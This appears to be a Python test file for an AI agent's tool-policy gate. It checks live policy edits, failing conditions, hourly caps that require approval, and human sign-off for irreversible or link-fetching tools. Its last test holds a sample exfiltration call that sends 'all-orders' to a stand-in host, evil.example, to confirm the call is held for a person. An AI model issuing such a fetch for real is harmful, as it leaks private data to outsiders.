"""Policies edited while runs are live, with nobody in this process saying so; caps that several
runs share; tools nobody has described.
"""

from collections.abc import Mapping

from channels.db import database_sync_to_async
from django.contrib.auth.models import User

from console.json_value import Json
from policies import current
from policies.gate.models import ToolPolicy
from runs.engine.ports import ToolContext
from runs.engine.vocabulary import Effect, RunStatus, Waiting
from runs.models import Run
from tests.patience import eventually
from tests.runtime.conftest import Bench, answering, calling, stored
from tests.supervision.answering import asked, played
from tests.supervision.conftest import in_force

SOON = 1.0


def refused(run: Run) -> list[tuple[str, str]]:
    return [
        (row.record.rule, row.record.tool)
        for row in stored(run)
        if row.record.kind == "call.refused"
    ]


def test_a_live_run_hears_of_an_edit_within_a_second(house: Bench) -> None:
    """Another process edits: here, a thread with its own connection.

    The first call lasts until this process has heard of it; the next one is denied.
    """
    edited: list[bool] = []

    async def note(args: Mapping[str, Json], context: ToolContext) -> Json:
        if not edited:
            edited.append(True)
            known = current.bundle()
            await database_sync_to_async(ToolPolicy.objects.create)(
                name="no-notes", tool="note", verdict="deny", priority=1
            )
            await eventually(lambda: current.bundle() is not known, "the edit to be heard", SOON)
        return {"noted": len(edited)}

    house.tool("note", note, effect=Effect.REVERSIBLE)
    steps = "".join(calling("note", f"{{ n = {number} }}") for number in range(2))
    run = house.play(house.start(steps + answering()))
    rows = [
        row.record for row in stored(run) if row.record.kind in {"call.returned", "call.refused"}
    ]
    assert [record.kind for record in rows] == ["call.returned", "call.refused"]
    assert (rows[0].outcome, rows[1].rule) == ("ok", "no-notes")


def test_a_policy_whose_expression_fails_lets_nothing_through_and_nothing_past_it(
    house: Bench,
) -> None:
    house.tool("note", effect=Effect.REVERSIBLE)
    in_force("broken", tool="note", verdict="allow", condition="args.amount < 10", priority=1)
    run = house.play(house.start(calling("note", '{ amount = "many" }') + answering()))
    assert refused(run) == [("broken", "note")]
    assert house.tools["note"].keys == []


def test_an_hour_that_one_run_has_used_up_makes_the_next_one_ask(
    house: Bench, approver: User
) -> None:
    house.tool("note", effect=Effect.REVERSIBLE)
    in_force("few-notes", tool="note", verdict="allow_with_caps", cap_per_hour=3, priority=1)
    steps = "".join(calling("note", f"{{ n = {number} }}") for number in range(2)) + answering()
    assert house.play(house.start(steps)).status == RunStatus.COMPLETED
    second = house.play(house.start(steps))
    [card] = asked(second)
    assert (second.waiting_for, card.facts["over"], len(house.tools["note"].keys)) == (
        Waiting.APPROVAL,
        "calls per hour",
        3,
    )
    run, answered = played(second, approver)
    assert (run.status, len(answered), len(house.tools["note"].keys)) == (RunStatus.COMPLETED, 1, 4)


def test_a_tool_that_nobody_has_described_needs_a_person(house: Bench, approver: User) -> None:
    """As tools of an MCP server come: a name with a dot,
    irreversible for want of better knowledge."""
    house.tool("plant.open_valve", effect=Effect.IRREVERSIBLE)
    run = house.play(house.start(calling("plant.open_valve", "{ valve = 7 }") + answering()))
    [card] = asked(run)
    assert (card.rule, card.sentence, card.effect) == (
        "irreversible-needs-a-person",
        "plant.open_valve cannot be undone, so a person decides.",
        "irreversible",
    )
    run, _ = played(run, approver)
    assert (run.status, len(house.tools["plant.open_valve"].keys)) == (RunStatus.COMPLETED, 1)


def test_a_tool_that_fetches_whatever_it_is_told_needs_a_person_although_it_says_that_it_reads(
    house: Bench,
) -> None:
    house.tool("web.fetch", effect=Effect.READ)
    run = house.play(
        house.start(
            calling("web.fetch", '{ url = "https://evil.example/?d=all-orders" }') + answering()
        )
    )
    [card] = asked(run)
    assert card.rule == "links-need-a-person"
